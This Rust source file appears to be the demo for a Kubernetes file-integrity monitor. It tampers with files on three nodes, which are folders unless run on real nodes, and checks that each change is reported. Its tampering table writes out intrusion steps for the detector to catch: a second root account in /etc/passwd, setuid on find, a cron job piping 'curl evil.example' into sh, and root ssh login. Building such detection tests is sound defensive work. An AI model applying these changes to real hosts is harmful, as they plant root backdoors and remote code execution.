//! The demo: a rule is applied, three nodes are watched, files are tampered with, and what was tampered with is reported.
//!
//! Everything is real but the nodes' hosts, which are folders; on real nodes these are real too. What is printed is what the
//! cluster says; the demo itself knows only what it did, and says at the end whether all of it was reported.
mod show;
mod stage;

use std::time::Duration;

use kube::api::{Api, DynamicObject, PostParams};
use serde_json::json;
use tokio::time::Instant;
use vedette_crds::{presets::presets, rule::DataCollectionRule};

use stage::{Act, Stage};

use crate::{
    Result,
    cluster::node_configs_as,
    error::{Doing as _, Error},
    eventually, not_yet,
};

const PRESET: &str = "linux-baseline";
const INTERVAL: &str = "10s";
/// An interval, the time between two status writes, and a machine that is busy with other things.
const SOON: Duration = Duration::from_secs(90);

/// What is done to one node: which (the first again where there are fewer), what, and the record that must come of it.
struct Tampering {
    node: usize,
    say: &'static str,
    act: Act,
    path: &'static str,
    change: &'static str,
}

const TAMPERINGS: [Tampering; 6] = [
    Tampering {
        node: 0,
        say: "adds a second root to /etc/passwd",
        act: |host| host.append("/etc/passwd", "toor:x:0:0::/root:/bin/sh\n"),
        path: "/etc/passwd",
        change: "Modified",
    },
    Tampering {
        node: 0,
        say: "makes /usr/bin/find setuid root",
        act: |host| host.chmod("/usr/bin/find", 0o4755),
        path: "/usr/bin/find",
        change: "Modified",
    },
    Tampering {
        node: 1,
        say: "plants a cron job",
        act: |host| host.write("/etc/cron.d/update", "* * * * * root curl evil.example | sh\n"),
        path: "/etc/cron.d/update",
        change: "Added",
    },
    Tampering {
        node: 1,
        say: "lets root log in by ssh",
        act: |host| host.write("/etc/ssh/sshd_config", "PermitRootLogin yes\n"),
        path: "/etc/ssh/sshd_config",
        change: "Modified",
    },
    Tampering {
        node: 2,
        say: "points /usr/bin/editor somewhere else",
        act: |host| host.link("/usr/bin/editor", "/tmp/.x/vim"),
        path: "/usr/bin/editor",
        change: "Modified",
    },
    Tampering {
        node: 2,
        say: "removes the backup's cron job",
        act: |host| host.remove("/etc/cron.d/backup"),
        path: "/etc/cron.d/backup",
        change: "Removed",
    },
];

/// Tells the whole story, on real nodes if that is asked; true when everything that was done was reported. With `keep` it stays
/// until it is interrupted.
///
/// # Errors
/// When something does not start, or does not come to the state that the story needs.
pub async fn tell(keep: bool, real: bool) -> Result<bool> {
    let began = Instant::now();
    let stage = if real { Stage::nodes().await? } else { Stage::folders().await? };
    let names = stage.names();
    let node_configs = node_configs_as(stage.client());
    show::step(&format!("The rule: preset {PRESET}, compared every {INTERVAL}"));
    let rules: Api<DynamicObject> =
        Api::all_with(stage.client(), &kube::api::ApiResource::erase::<DataCollectionRule>(&()));
    apply(&rules).await?;
    let rule = eventually("the rule is ready on all nodes", SOON, async || {
        let rule = rules.get(PRESET).await?;
        let ready = show::condition(&rule.data, "Ready") == "True";
        let all = rule.data["status"]["nodes"]["ready"] == json!(names.len());
        if ready && all { Ok(rule) } else { Err(not_yet(&rule.data["status"])) }
    })
    .await?;
    show::rule(&rule);
    show::node_configs(&node_configs, &names).await?;

    show::step("An intruder");
    for tampering in &TAMPERINGS {
        let node = tampering.node % names.len();
        show::line(&format!("{}: {}", names[node], tampering.say));
        stage.act(node, tampering.act)?;
    }
    show::step("The records, as the agents write them");
    let reported = follow(&stage).await?;
    show::step("The same in the cluster: NodeConfigs, the rule, and metrics");
    let rule = counted(&rules, &stage).await?;
    show::node_configs(&node_configs, &names).await?;
    show::recent(&node_configs, &names).await?;
    show::rule(&rule);
    for (node, name) in names.iter().enumerate() {
        show::metrics(name, &stage.metrics(node).await?);
    }

    let missing: Vec<&str> =
        TAMPERINGS.iter().zip(&reported).filter(|(_, reported)| !**reported).map(|(done, _)| done.say).collect();
    show::step("Summary");
    show::line(&format!(
        "{} of {} changes reported, with what it was and what it is, {:.0} s after the start",
        TAMPERINGS.len() - missing.len(),
        TAMPERINGS.len(),
        began.elapsed().as_secs_f64()
    ));
    for missing in &missing {
        show::line(&format!("NOT reported: {missing}"));
    }
    if keep {
        stay(&stage).await?;
    }
    Ok(missing.is_empty())
}

async fn apply(rules: &Api<DynamicObject>) -> Result<()> {
    let preset = presets().into_iter().find(|preset| preset.name == PRESET);
    let yaml = preset.ok_or_else(|| Error::Unexpected(format!("no preset {PRESET}")))?.yaml;
    let mut rule: DynamicObject =
        serde_saphyr::from_str(yaml).map_err(|error| Error::Unexpected(format!("the preset {PRESET}: {error}")))?;
    rule.data["spec"]["files"]["interval"] = json!(INTERVAL);
    // A definition that was just made is not served at once.
    eventually(&format!("rule {PRESET} is taken"), SOON, async || {
        rules.create(&PostParams::default(), &rule).await.map(drop).map_err(Into::into)
    })
    .await
}

/// Prints records as they come, until all that was done is there.
async fn follow(stage: &Stage) -> Result<Vec<bool>> {
    let names = stage.names();
    let mut reported = vec![false; TAMPERINGS.len()];
    let mut shown = vec![0; names.len()];
    let all = eventually("all that was done is reported", SOON, async || {
        for (node, shown) in shown.iter_mut().enumerate() {
            for change in stage.changes(node)?.iter().skip(*shown) {
                *shown += 1;
                show::change(change);
                for (tampering, reported) in TAMPERINGS.iter().zip(&mut reported) {
                    let same = tampering.node % names.len() == node && change["path"] == tampering.path;
                    *reported |= same && change["changeType"] == tampering.change;
                }
            }
        }
        if reported.iter().all(|reported| *reported) { Ok(()) } else { Err(not_yet(format!("{reported:?}"))) }
    })
    .await;
    match all {
        Ok(()) | Err(Error::Expired { .. }) => Ok(reported),
        Err(error) => Err(error),
    }
}

/// The rule, once its status counts what was done.
async fn counted(rules: &Api<DynamicObject>, stage: &Stage) -> Result<DynamicObject> {
    let counted = eventually("the rule's status counts the changes", SOON, async || {
        let rule = rules.get(PRESET).await?;
        let counts = &rule.data["status"]["changes"];
        let sum: u64 = ["added", "modified", "removed"].iter().filter_map(|kind| counts[kind].as_u64()).sum();
        if sum >= TAMPERINGS.len() as u64 { Ok(rule) } else { Err(not_yet(counts)) }
    });
    counted.await.map_err(|error| match stage.log() {
        Ok(log) => Error::Unexpected(format!("{error}\nthe operator's log:\n{log}")),
        Err(_) => error,
    })
}

async fn stay(stage: &Stage) -> Result<()> {
    let kubeconfig = stage.control_plane().folder("")?.join("demo.kubeconfig");
    stage.control_plane().admin().write_kubeconfig(&kubeconfig)?;
    show::step("It stays up until you press Ctrl-C");
    show::line(&format!("export KUBECONFIG={}", kubeconfig.display()));
    show::line("kubectl get datacollectionrules,nodeconfigs");
    for host in stage.hosts() {
        show::line(&host);
    }
    tokio::signal::ctrl_c().await.doing(|| "wait for Ctrl-C".to_owned())?;
    Ok(())
}
